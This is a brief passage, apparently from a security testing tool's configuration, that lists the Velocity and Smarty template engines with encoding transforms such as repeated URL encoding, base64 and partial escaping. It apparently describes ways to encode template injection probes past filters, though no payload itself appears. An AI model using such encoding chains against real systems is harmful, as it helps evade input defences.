        «velocity»
        «smarty»
        §encoded
        3× «core→url»
        «core→urlsome»
        «core→urltwice»
        «core→entsome»
        «core→slashusome»
        «core→plus»
        «core→b64»
        """";
}
